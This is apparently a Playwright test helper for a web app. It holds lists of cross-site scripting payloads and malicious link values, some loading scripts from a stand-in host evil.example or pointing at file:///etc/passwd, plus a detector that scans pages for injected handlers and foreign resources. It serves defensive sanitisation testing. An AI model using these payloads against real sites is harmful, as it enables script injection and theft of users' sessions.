/** Script injections for name and message fields. */
import type { Page } from '@playwright/test';

/** 60 injections, each short enough for a first name. */
export const scripts: string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  "'-alert(1)-'",
  '";alert(1);//',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><svg onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x',
  '<button formaction=javascript:alert(1)>x',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<math><a xlink:href=javascript:alert(1)>x',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import"//evil.example/x"</style>',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src=data:,alert(1)></script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '{{t.alert}}$t(alert)',
  '__proto__',
  '＜script＞alert(1)＜/script＞',
  '<div style=animation-name:x onanimationend=alert(1)>',
  '<x onclick=alert(1) style=position:fixed;inset:0>',
  '<p/onpointerover=alert(1)>😀\u0301<',
];

/** 30 invalid menu links: not web addresses. */
export const noMenuLinks: string[] = [
  'http:///x',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'javascript://a/%0aalert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javascript\u200b:alert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://a.example/1',
  'file:///etc/passwd',
  'about:blank',
  'intent://a#Intent;end',
  'ftp://a.example',
  'tel:+33123456789',
  'mailto:a@b.c',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '/admin',
  'https:evil',
  'https://\\evil.example',
];

/** Finds injected parts in a page: inline handlers, script links and foreign resources. */
export function foreignParts(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const leading = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'];
    const found: string[] = [];
    const note = (element: Element) => found.push(element.outerHTML.slice(0, 200));
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) note(element);
        if (!leading.includes(name) || value === '') continue;
        const { protocol, pathname } = new URL(value, location.href);
        const isOfTheWeb = ['http:', 'https:', 'mailto:', 'tel:'].includes(protocol);
        const isPicture = element.tagName === 'IMG' && ['data:', 'blob:'].includes(protocol);
        if (!(isOfTheWeb || isPicture) || pathname === '/x') note(element);
      }
    }
    for (const script of document.scripts) {
      const isData = script.type.endsWith('json');
      if (!isData && !script.src.startsWith(location.origin)) note(script);
    }
    const foreign = 'iframe, object, embed, base, marquee, math, svg script, svg animate, [srcdoc]';
    for (const element of document.querySelectorAll(foreign)) note(element);
    return found;
  });
}

/** Joins as many as fit in one text, so that fewer pages have to be opened. */
export function packed(texts: string[], length: number): string[] {
  const packs: string[] = [];
  for (const text of texts) {
    const last = packs.at(-1);
    const together = `${last} ${text}`;
    if (last !== undefined && together.length <= length) packs[packs.length - 1] = together;
    else packs.push(text);
  }
  return packs;
}
